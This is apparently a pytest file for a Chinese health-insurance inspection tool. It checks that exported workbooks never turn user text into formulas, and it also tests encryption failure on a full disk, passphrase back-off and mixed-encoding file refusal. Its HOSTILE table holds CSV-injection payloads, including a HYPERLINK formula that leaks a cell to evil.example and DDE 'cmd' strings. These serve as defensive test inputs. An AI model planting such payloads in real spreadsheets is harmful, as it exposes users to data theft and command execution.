"""The attacks that are neither on bundles nor on PDFs: no formula from user text in any workbook
the tool writes; a settlement file of mixed encodings refused at the line where the encoding
changes; ``home encrypt`` on a full disk; the registry reader's row limit before the whole file
is read; a growing delay after wrong passphrases."""

from __future__ import annotations

import csv
import errno
import io
import os
import sqlite3
import zipfile
from pathlib import Path

import openpyxl
import pytest

from inspector.crypto.home import STAGING
from inspector.ledger.entries import LedgerFilter, search_entries, set_progress
from inspector.workspace import Workspace
from tests.helpers.cli import Cli
from tests.helpers.ledger import signed_inspection, team_keys

# --- no formula from user text --------------------------------------------------------------------

# What an attacker types where the tool later writes a workbook: each begins as a formula would.
HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "cmd": "=cmd|' /C calc'!A0",
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1,2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "district": "=1+1",
    "title": "=2026年第一批",
    "cert": "=370100009",
}


def _sheets_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def _texts(path: Path) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
    found: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            found.update(v for v in row if isinstance(v, str))
    return found


def _no_formula(path: Path, typed: list[str]) -> None:
    """No cell of any sheet is a formula, and each hostile text reads back as typed, a cell
    of its own."""
    sheets = _sheets_xml(path)
    assert sheets
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, f"a formula in {path.name}:{name}"
    texts = _texts(path)
    for text in typed:
        assert text in texts, f"{text!r} not read back from {path.name}"


@pytest.fixture
def hostile_ledger(workspace: Workspace) -> Workspace:
    """Signed inspections of institutions named as formulas, in a district named as one, with
    notes that are formulas; a progress note and the current inspector's 执法证号 too."""
    from inspector.inspections import TeamMember, set_current_inspector

    set_current_inspector(workspace, TeamMember(HOSTILE["+"], HOSTILE["cert"]))
    keys = team_keys(workspace)
    signed_inspection(workspace, keys, HOSTILE["="], [("P5.1", "1200", None)])
    signed_inspection(
        workspace, keys, HOSTILE["cmd"], [("P5.2", "30.5", None)], district=HOSTILE["district"]
    )
    entries = search_entries(workspace, LedgerFilter())
    set_progress(workspace, entries[0].id, note=HOSTILE["@"])
    return workspace


def test_the_ledger_export_writes_user_text_as_text(
    hostile_ledger: Workspace, cli: Cli, tmp_path: Path
) -> None:
    target = tmp_path / "台账.xlsx"
    cli("ledger", "export", "--out", str(target))
    # the institutions, their notes ("{institution} {item}"), the district, the progress note
    typed = [HOSTILE["="], HOSTILE["cmd"], HOSTILE["district"], HOSTILE["@"]]
    _no_formula(target, [*typed, f"{HOSTILE['=']} P5.1", f"{HOSTILE['cmd']} P5.2"])
    rows = list(openpyxl.load_workbook(target).active.iter_rows(values_only=True))
    assert sorted(row[10] for row in rows[1:]) == [30.5, 1200]  # the tool's numbers: numbers


def test_the_report_writes_user_text_as_text(
    hostile_ledger: Workspace, cli: Cli, tmp_path: Path
) -> None:
    from datetime import date

    today = date.today()
    quarter = f"{today.year}Q{(today.month - 1) // 3 + 1}"
    report = tmp_path / "报告.xlsx"
    cli("report", "--quarter", quarter, "--out", str(report))
    _no_formula(report, [HOSTILE["district"]])  # the district, a row of 按区县


def test_the_audit_export_writes_user_text_as_text(
    hostile_ledger: Workspace, cli: Cli, tmp_path: Path
) -> None:
    audit = tmp_path / "操作记录.xlsx"
    cli("audit", "export", "--out", str(audit))
    _no_formula(audit, [HOSTILE["cert"]])  # the actor of every event


def test_the_draws_publication_writes_user_text_as_text(cli: Cli, tmp_path: Path) -> None:
    registry = tmp_path / "名单.csv"
    names = [HOSTILE["="], HOSTILE["cmd"], HOSTILE["+"], "丁卫生院"]
    with registry.open("w", encoding="utf-8", newline="") as handle:
        table = csv.writer(handle)
        table.writerow(["机构名称", "机构类型", "所在区县", "协议编号"])
        table.writerows([n, "基层医疗机构", "历城区", f"A00{i}"] for i, n in enumerate(names, 1))
    cli("institution", "import", str(registry))
    for n, name in enumerate([HOSTILE["@"], HOSTILE["-"], "王强"], start=1):
        cli("draw", "roster", "add", f"--name={name}", "--cert-no", f"37010000{n}",
            "--district", "历城区", "--leader")  # fmt: skip
    target = tmp_path / "抽查结果.xlsx"
    cli("draw", "run", "--institutions", "4", "--reuse-inspectors", "--sources", "1 2 3",
        f"--title={HOSTILE['title']}", "--out", str(target))  # fmt: skip
    _no_formula(target, [*names, HOSTILE["@"], HOSTILE["-"], HOSTILE["title"]])
    out, _ = cli("draw", "verify", str(target))
    assert "复核通过" in out


# --- home encrypt on a full disk ------------------------------------------------------------------


def _files(home: Path) -> dict[str, str]:
    import hashlib

    return {
        p.relative_to(home).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(home.rglob("*"))
        if p.is_file() and not p.name.endswith(("-wal", "-shm"))
    }


def _no_space(*_args: object, **_kwargs: object) -> None:
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


def _sqlite_full(*_args: object, **_kwargs: object) -> None:
    error = sqlite3.OperationalError("database or disk is full")
    error.sqlite_errorcode = 13  # SQLITE_FULL, as SQLite's own error carries it
    error.sqlite_errorname = "SQLITE_FULL"
    raise error


@pytest.mark.parametrize(
    "where",
    [
        ("inspector.evidence.store.EvidenceStore.copy_in", _no_space),
        ("inspector.crypto.home._encrypt_file", _no_space),
        ("inspector.db.engine.encrypt_database", _sqlite_full),
    ],
    ids=["evidence", "key-file", "database"],
)
def test_home_encrypt_on_a_full_disk_says_so_and_leaves_the_directory_plain(
    cli: Cli, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: tuple
) -> None:
    from tests.helpers.homes import PHOTOS

    out, _ = cli("inspection", "new", "--institution", "某医院", "--type", "primary_care",
                 "--mode", "surprise", "--district", "历城区", "--inspector", "张伟:370100001",
                 "--inspector", "李娜:370100002", "--leader", "370100002")  # fmt: skip
    inspection = out.strip()
    cli("answer", inspection, "P5.1", "--result", "problem", "--note", "挂床")
    photo = next(iter(sorted((PHOTOS / "gps").glob("*.jpg"))))
    cli("evidence", "add", inspection, str(photo), "--item", "P5.1", "--by", "370100001")
    cli("key", "trial", "--name", "张伟", "--cert-no", "370100001",
        "--passphrase-file", str(_secret(tmp_path)))  # fmt: skip
    before = cli("inspection", "show", inspection, "--json")[0]
    files = _files(home)
    monkeypatch.setattr(*where)
    _, err = cli("home", "encrypt", "--as", "370100001", "--new-passphrase-file",
                 str(_secret(tmp_path)), expect=1)  # fmt: skip
    assert "磁盘空间不足" in err and "原数据目录未改动" in err
    assert "Traceback" not in err
    assert _files(home) == files
    assert not (home / STAGING).exists() and not (home / "vault.json").exists()
    assert cli("inspection", "show", inspection, "--json")[0] == before
    monkeypatch.undo()
    cli("home", "encrypt", "--as", "370100001", "--new-passphrase-file", str(_secret(tmp_path)))
    assert (home / "vault.json").exists()


def _secret(tmp_path: Path) -> Path:
    path = tmp_path / "口令.txt"
    path.write_text("测试口令 correct horse\n", encoding="utf-8")
    return path


# --- a growing delay after wrong passphrases ------------------------------------------------------


def test_the_wait_after_wrong_passphrases_grows_to_thirty_seconds() -> None:
    from inspector.crypto.tries import delay_after

    assert [delay_after(n) for n in range(1, 10)] == [0, 1, 2, 4, 8, 16, 30, 30, 30]


def test_the_core_rule_refuses_tries_during_the_wait_and_keeps_the_count(tmp_path: Path) -> None:
    from inspector.crypto.home import create_encrypted, load_vault
    from inspector.crypto.tries import TryLater, UnlockTries, unlock_counted
    from inspector.crypto.vault import WrongPassphrase
    from tests.helpers.homes import HOLDER, PASSPHRASE

    home = tmp_path / "home"
    create_encrypted(home, HOLDER, PASSPHRASE)
    now = [1000.0]
    tries = UnlockTries(home, lambda: now[0])
    vault = load_vault(home)
    for count, wait in ((1, 0), (2, 1), (3, 2)):
        with pytest.raises(WrongPassphrase, match=f"已连续输错 {count} 次"):
            unlock_counted(vault, HOLDER, "wrong passphrase", tries)
        assert tries.wait() == wait
        now[0] += wait if count < 3 else 0
    with pytest.raises(TryLater, match="已连续输错 3 次口令，请等待 2 秒"):
        unlock_counted(vault, HOLDER, PASSPHRASE, tries)  # right, but not tried yet
    now[0] += 1.5
    with pytest.raises(TryLater, match="请等待 1 秒"):
        unlock_counted(vault, HOLDER, PASSPHRASE, tries)
    assert UnlockTries(home).wrong == 3  # kept in the directory, refused tries not counted
    now[0] -= 10_000  # the clock set back does not make the wait endless
    assert tries.wait() == 2
    now[0] += 2
    assert unlock_counted(vault, HOLDER, PASSPHRASE, tries) is not None
    assert tries.wrong == 0 and not tries.path.exists()
    # A spoiled count file is the longest wait, not none.
    tries.path.write_text("{", encoding="utf-8")
    assert UnlockTries(home, lambda: tries.path.stat().st_mtime).wait() == 30


def test_the_command_line_applies_the_same_rule(
    cli: Cli, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import inspector.crypto.tries

    monkeypatch.setattr(inspector.crypto.tries, "now", lambda: 1_800_000_000.0)
    secret = _secret(tmp_path)
    cli("home", "encrypt", "--as", "370100001", "--new-passphrase-file", str(secret))
    wrong = tmp_path / "错.txt"
    wrong.write_text("wrong passphrase\n", encoding="utf-8")
    monkeypatch.setenv("INSPECTOR_HOME_PASSPHRASE_FILE", str(wrong))
    _, err = cli("inspection", "list", expect=1)
    assert "已连续输错 1 次" in err
    _, err = cli("inspection", "list", expect=1)
    assert "已连续输错 2 次" in err and "请等待 1 秒" in err
    monkeypatch.setenv("INSPECTOR_HOME_PASSPHRASE_FILE", str(secret))
    _, err = cli("inspection", "list", expect=1)  # the right one, within the second
    assert "请等待 1 秒" in err
    monkeypatch.setattr(inspector.crypto.tries, "now", lambda: 1_800_000_001.0)
    cli("inspection", "list")


# --- a file of mixed encodings --------------------------------------------------------------------


def _settlement_lines(n: int) -> tuple[str, list[str]]:
    from tests.helpers.claims import HEADER, generate, text

    return ",".join(HEADER), [",".join(text(v) for v in row) for row in generate(n)]


def _utf16(lines: list[str], *, end: bool = True) -> bytes:
    return ("\r\n".join(lines) + ("\r\n" if end else "")).encode("utf-16")


def _utf8(lines: list[str]) -> bytes:
    data = ("\r\n".join(lines) + "\r\n").encode("utf-8")
    return data + b"\n" * (len(data) % 2)  # an even length: no decoding error at the end


@pytest.mark.parametrize(
    ("utf16_rows", "ends_with_break"), [(10, True), (60, True), (10, False)],
    ids=["in-the-header-region", "further-on", "no-line-break-before"],
)  # fmt: skip
def test_utf8_rows_after_a_utf16_part_refuse_the_file_at_their_line(
    workspace: Workspace, tmp_path: Path, utf16_rows: int, ends_with_break: bool
) -> None:
    """40 UTF-8 bills after Excel's "Unicode text" read as one cell of one row."""
    from inspector.claims.sampling import build_sample
    from inspector.errors import InvalidInput
    from tests.helpers.claims import RULES

    header, rows = _settlement_lines(utf16_rows + 40)
    path = tmp_path / "结算数据.csv"
    head = _utf16([header, *rows[:utf16_rows]], end=ends_with_break)
    path.write_bytes(head + _utf8(rows[utf16_rows:]))
    line = utf16_rows + 2 if ends_with_break else utf16_rows + 1
    with pytest.raises(InvalidInput, match=f"第 {line} 行起的文字编码与文件开头（UTF-16）不一致"):
        build_sample(workspace, path, RULES)


def test_a_utf16_file_alone_reads_as_the_utf8_one(workspace: Workspace, tmp_path: Path) -> None:
    """The check does not refuse Excel's own "Unicode text" (tab-separated, Chinese)."""
    from inspector.claims.sampling import build_sample
    from tests.helpers.claims import RULES

    header, rows = _settlement_lines(300)
    tabbed = [line.replace(",", "\t") for line in [header, *rows]]
    title = "某区 结算数据（上半年第二季度）"
    (tmp_path / "u16.txt").write_bytes(_utf16([title, *tabbed]))
    (tmp_path / "u8.csv").write_bytes(_utf8([title, header, *rows]))
    u16 = build_sample(workspace, tmp_path / "u16.txt", RULES)
    u8 = build_sample(workspace, tmp_path / "u8.csv", RULES)
    assert u16.ok and u8.ok and u16.bills == u8.bills and u16.bills


def test_utf16_or_gbk_rows_after_an_8_bit_part_refuse_the_file_at_their_line(
    workspace: Workspace, tmp_path: Path
) -> None:
    from inspector.claims.sampling import build_sample
    from inspector.errors import InvalidInput
    from tests.helpers.claims import RULES

    header, rows = _settlement_lines(70)
    path = tmp_path / "结算数据.csv"
    start = "".join(line + "\r\n" for line in [header, *rows[:30]]).encode("utf-8")
    path.write_bytes(start + "\r\n".join(rows[30:]).encode("utf-16-le"))
    with pytest.raises(InvalidInput, match="第 32 行起的文字编码与文件开头（UTF-8）不一致"):
        build_sample(workspace, path, RULES)
    path.write_bytes(start + "\r\n".join(rows[30:]).encode("gbk"))
    with pytest.raises(InvalidInput, match="第 32 行起的文字编码与文件开头（UTF-8）不一致"):
        build_sample(workspace, path, RULES)


@pytest.mark.parametrize("reader", ["registry", "stock"])
def test_the_registry_and_stock_readers_refuse_mixed_files_the_same_way(
    tmp_path: Path, reader: str
) -> None:
    from inspector.errors import InvalidInput
    from inspector.tables import read_table

    if reader == "registry":
        from inspector.registry.source import REGISTRY

        spec = REGISTRY
        header = "机构名称,机构类型,所在区县"
        rows = [f"某诊所{i},基层医疗机构,历城区" for i in range(40)]
    else:
        from inspector.stock.ledgers import Kind, spec_of

        spec = spec_of(Kind.PURCHASES)
        header = "购进日期,药品名称,规格,单位,购进数量,购进金额（元）"
        rows = [f"2026-01-{1 + i % 28:02d},阿莫西林{i},0.25g,盒,10,12.00" for i in range(40)]
    path = tmp_path / "名单.csv"
    path.write_bytes(_utf16([header, *rows[:5]]) + _utf8(rows[5:]))
    with pytest.raises(InvalidInput, match="第 7 行起的文字编码与文件开头（UTF-16）不一致"):
        read_table(path, spec)
    path.write_bytes(_utf16([header, *rows]))
    assert len(read_table(path, spec).rows) == 40


# --- the registry reader's row limit --------------------------------------------------------------


def test_a_file_past_the_row_limit_is_refused_before_the_rest_is_read(tmp_path: Path) -> None:
    """The file ends in bytes no encoding reads, far past the limit (text is decoded ahead in
    blocks of 8 KiB): had the reader gone on to them (or decoded the whole file first, as it
    did), the refusal would be about the encoding."""
    from dataclasses import replace

    from inspector.errors import InvalidInput
    from inspector.registry.source import REGISTRY
    from inspector.tables import read_table

    spec = replace(REGISTRY, max_rows=100)
    path = tmp_path / "名单.csv"
    rows = [f"某诊所{i},基层医疗机构,历城区" for i in range(10_000)]
    path.write_bytes(
        "\r\n".join(["机构名称,机构类型,所在区县", *rows]).encode("utf-8")
        + b"\r\n\xff\xfe\xff\x80" * 10_000
    )
    with pytest.raises(InvalidInput, match="超过 100 行"):
        read_table(path, spec)
    path.write_bytes("\r\n".join(["机构名称,机构类型,所在区县", *rows[:99]]).encode("utf-8"))
    assert len(read_table(path, spec).rows) == 99
